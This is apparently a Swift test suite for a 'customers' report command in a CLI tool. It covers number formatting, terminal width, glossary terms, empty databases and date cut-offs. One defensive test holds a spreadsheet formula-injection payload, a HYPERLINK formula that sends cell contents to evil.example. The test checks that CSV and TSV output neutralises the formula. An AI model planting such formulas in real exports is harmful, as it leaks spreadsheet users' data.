import Foundation
import TestSupport
import Testing

/// `neocloud customers` against the output conventions of the other commands (issue 14):
/// thousands separators, terminal width, formula neutralisation, the glossary pointer and its
/// terms, an empty database and `--as-of`.
@Suite struct CustomersConventionsTests {
  static let asOf = ["--as-of", "2026-11-23"]

  func widest(_ text: String) -> Int { text.split(separator: "\n").map(\.count).max() ?? 0 }

  @Test func countsHaveThousandsSeparatorsForPeopleOnly() throws {
    let box = try Sandbox.withSamples()
    let table = box.run(["customers", "--provider", "lumen-grid", "--format", "table"] + Self.asOf).stdout
    #expect(table.contains(" 4,096.0 "))
    let tsv = box.run(["customers", "--provider", "lumen-grid", "--format", "tsv"] + Self.asOf).stdout
    #expect(tsv.contains("\t4096.0\t"))
    #expect(!tsv.contains("4,096"))
  }

  @Test func aTerminalTableFitsItsWidthAndEndsWithTheGlossaryPointer() throws {
    let box = try Sandbox.withSamples()
    let wide = box.run(["customers", "--format", "table"] + Self.asOf)
    let narrow = box.run(["customers"] + Self.asOf, terminal: true, columns: 90)
    #expect(narrow.code == 0, "\(narrow.stderr)")
    #expect(widest(wide.stdout) > 90)
    #expect(widest(narrow.stdout) <= 90)
    #expect(narrow.stdout.contains("…"))
    #expect(!wide.stdout.contains("…"))
    // Figures are never cut.
    #expect(narrow.stdout.contains("195,999,744.00"))
    for output in [wide.stdout, narrow.stdout] {
      #expect(output.hasSuffix("Terms: `neocloud glossary` defines every flag, grade, tier and figure.\n"))
    }
    // A file gets the whole table, whatever the terminal.
    let file = box.run(
      ["customers", "--format", "table", "--output", box.path("c.txt")] + Self.asOf, terminal: true, columns: 90)
    #expect(file.code == 0)
    #expect(try String(contentsOfFile: box.path("c.txt"), encoding: .utf8) == wide.stdout)
  }

  @Test func everyColumnIsInTheGlossary() throws {
    let box = try Sandbox.withSamples()
    let tsv = box.run(["customers", "--format", "tsv"] + Self.asOf).stdout
    let header = tsv.split(separator: "\n").first.map { $0.split(separator: "\t").map(String.init) } ?? []
    #expect(header.count == 7)
    for key in ["customer_rating", "gpus_m1", "share_pct"] {
      #expect(header.contains(key))
      let result = box.run(["glossary", key, "--format", "tsv"])
      #expect(result.code == 0, "\(key): \(result.stderr)")
      #expect(result.stdout.contains("neocloud customers"), "\(key)")
    }
  }

  @Test func aFormulaInACustomerNameIsNeutralisedInCSVAndTSV() throws {
    let box = try Sandbox.withSamples()
    let payload = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
    let quoted = payload.replacingOccurrences(of: "\"", with: "\"\"")
    try box.write(
      "contracts.csv",
      """
      contract_id,provider_id,customer,gpu_model,gpu_count,price_usd_per_gpu_hour,start_on,end_on,sla_uptime_pct,sla_credit_pct
      hbr-evil,harbor-gpu,"\(quoted)",H100,8,2,2026-01-01,2028-12-31,99.5,10

      """)
    #expect(box.run(["import", box.path("contracts.csv")]).code == 0)
    let csv = box.run(["customers", "--provider", "harbor-gpu", "--format", "csv"] + Self.asOf).stdout
    #expect(csv.contains(",\"'\(quoted)\","))
    let tsv = box.run(["customers", "--provider", "harbor-gpu", "--format", "tsv"] + Self.asOf).stdout
    #expect(tsv.contains("\t'="))
    for line in (csv + tsv).split(separator: "\n") {
      #expect(!line.contains(",=") && !line.contains(",\"=") && !line.contains("\t=") && !line.hasPrefix("="))
    }
  }

  @Test func anEmptyDatabaseGivesAnEmptyTableInEveryFormat() throws {
    let box = try Sandbox()
    #expect(box.run(["init"]).code == 0)
    let table = box.run(["customers", "--format", "table"] + Self.asOf)
    #expect(table.code == 0)
    #expect(table.stdout.hasPrefix("As of 2026-11-23 · "))
    #expect(table.stdout.contains("Provider  Customer  Rating  GPUs M1  Revenue 12m  Share %  Ends\n"))
    let csv = box.run(["customers", "--format", "csv"] + Self.asOf)
    #expect(csv.stdout == "provider_id,customer,customer_rating,gpus_m1,revenue_12m_usd,share_pct,end_on\n")
    let unknown = box.run(["customers", "--provider", "nobody"] + Self.asOf)
    #expect(unknown.code == 64)
  }

  @Test func asOfDecidesWhichContractsCountAndWhereM1Is() throws {
    let box = try Sandbox.withSamples()
    func rows(_ asOf: String) -> [[Substring]] {
      box.run(["customers", "--provider", "ionic-labs", "--format", "tsv", "--as-of", asOf]).stdout
        .split(separator: "\n").dropFirst().map { $0.split(separator: "\t", omittingEmptySubsequences: false) }
    }
    let now = rows("2026-11-23")
    #expect(now.contains { $0[1] == "Glassmoth Labs" })
    // Glassmoth Labs' contract ends 2027-01-31: from then on it is no longer a customer.
    let later = rows("2027-02-01")
    #expect(!later.isEmpty)
    #expect(!later.contains { $0[1] == "Glassmoth Labs" })
    let refused = box.run(["customers", "--as-of", "2026-13-01"])
    #expect(refused.code == 64)
  }
}
